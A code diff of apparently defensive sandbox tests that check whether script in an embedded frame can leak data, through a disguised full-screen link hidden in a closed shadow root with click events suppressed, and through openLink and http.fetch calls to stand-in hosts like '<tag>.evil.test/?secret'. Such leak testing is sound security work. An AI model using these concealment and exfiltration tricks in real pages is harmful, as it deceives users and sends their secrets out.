@@ -1,8 +1,9 @@
 // Ways out that ask the host page or the server, and the proof that the sinks hear everything.
-import { type Stage, until } from "../arena/stage.ts";
+import { pause, type Stage, until } from "../arena/stage.ts";
+import type { How } from "../arena/tab.ts";
 import type { Finding, Vector } from "../arena/vector.ts";
 import type { Case } from "./case.ts";
-import { absent, check, removed } from "./check.ts";
+import { attempt, check, removed } from "./check.ts";
 
 /** Case 48: where the frame goes when it wants to go to a page of the server's own. */
 async function towardsHost(stage: Stage, path: string): Promise<Finding> {
@@ -21,6 +22,44 @@ async function towardsHost(stage: Stage, path: string): Promise<Finding> {
   const documents = (await tab.frames()).join(" ");
   const held = proof && tried && !documents.includes(stage.target.origin);
   return check(path, held, `${error || "The frame stays where it was."} It holds ${documents}; the control arrived`);
+}
+
+/** What a person does to open a link of the app's in another tab. */
+export async function clickedByPerson(stage: Stage, how: How): Promise<Finding> {
+  const code = (url: string) => `
+    const link = document.createElement("a");
+    link.href = ${JSON.stringify(url)};
+    link.id = "link";
+    link.textContent = "Read more";
+    link.style.cssText = "position:fixed;inset:0;background:white";
+    // In a closed tree nobody outside sees that it is a link, and no listener below hears of the click.
+    const stop = (event) => event.stopImmediatePropagation();
+    for (const type of ["click", "auxclick"]) window.addEventListener(type, stop, true);
+    setTimeout(() => {
+      const host = document.createElement("div");
+      host.id = "host";
+      host.style.cssText = "position:fixed;inset:0";
+      document.body.append(host);
+      host.attachShadow({ mode: "closed" }).append(link);
+    }, 300);`;
+  const [tag, controlTag] = [stage.sinks.tag(38), stage.sinks.tag(38)];
+  const url = (of: string) => `http://${of}.evil.test/?secret`;
+  const control = await stage.control(code(url(controlTag)));
+  const tab = await stage.run(code(url(tag)));
+  for (const each of [control, tab]) {
+    await pause(400);
+    await each.clickInFrame("#host", how);
+  }
+  const arrived = await stage.sinks.hits(controlTag, 4_000);
+  const hits = await stage.sinks.hits(tag, 1_500);
+  const vector = `a person's click ${how}`;
+  // Firefox connects to a link as soon as a button is pressed on it; what it asks then is only a name.
+  const ahead = stage.arena.name === "firefox" && hits.length > 0 && hits.every(({ via }) => via === "dns");
+  if (ahead) return { vector, outcome: "leaked, as known", seen: "the name was looked up when the button was pressed; no request" };
+  if (hits.length > 0) return { vector, outcome: "leaked", seen: hits.map(({ via, what }) => `${via} ${what}`).join(", ") };
+  if (arrived.length === 0) return { vector, outcome: "failed", seen: "proves nothing: the control did not arrive" };
+  await stage.sinks.sealed(tag, `38 ${vector}`);
+  return { vector, outcome: "blocked", seen: `nothing arrived; the control arrived by ${arrived[0]?.via}` };
 }
 
 const kinds: readonly Vector[] = [
@@ -95,13 +134,49 @@ export const asks: readonly Case[] = [
     id: 49,
     title: "openLink with a secret in the address",
     category: "exfiltration",
-    run: async (stage) => [await absent(stage, "ui.openLink", { url: "http://evil.test/?secret" })],
+    async run(stage) {
+      const [tag, controlTag] = [stage.sinks.tag(49), stage.sinks.tag(49)];
+      const url = `http://secret.${tag}.evil.test/?secret`;
+      const tab = await stage.run("");
+      await tab.inFrame((address: string) => {
+        const link = (window as any)[Symbol.for("cumulonimbus")];
+        void link.call("ui.openLink", { url: address }).catch(() => {});
+      }, url);
+      const shown = () => tab.inPage((text: string) => document.body.innerText.includes(text), url);
+      await until("the host page asks", shown, 5_000).catch(() => {});
+      const asked = await shown();
+      const control = await stage.control(
+        `document.body.insertAdjacentHTML("beforeend", '<a href="http://${controlTag}.evil.test/">x</a>');`,
+      );
+      const arrived = await stage.sinks.hits(controlTag, 6_000);
+      await control.close();
+      const hits = await stage.sinks.hits(tag, 2_000);
+      await stage.sinks.sealed(tag, "49 openLink");
+      return [
+        check("the question", asked && (await tab.popups()).length === 0, "the host page shows the whole address and opens nothing"),
+        arrived.length === 0 && hits.length === 0
+          ? { vector: "the name before an answer", outcome: "unsupported", seen: "nothing arrived, nor from the control: the browser looks up no names of links" }
+          : check(
+          "the name before an answer",
+          hits.length === 0 && arrived.length > 0,
+          hits.map(({ via, what }) => `${via} ${what}`).join(", ") || `not looked up; the control's link was, by ${arrived[0]?.via ?? "nothing"}`,
+        ),
+      ];
+    },
   },
   {
     id: 50,
     title: "http.fetch without a grant",
     category: "exfiltration",
-    run: async (stage) => [await absent(stage, "http.fetch", { url: "http://evil.test/?secret" })],
+    async run(stage) {
+      const tag = stage.sinks.tag(50);
+      const tab = await stage.run("");
+      const params = { url: `https://${tag}.evil.test/?secret` };
+      const seen = await tab.inFrame(attempt, { method: "http.fetch", params });
+      const hits = await stage.sinks.hits(tag, 1_000);
+      await stage.sinks.sealed(tag, "50 http.fetch");
+      return [check("an undeclared domain", seen.startsWith("refused") && hits.length === 0, seen)];
+    },
   },
   {
     id: 51,
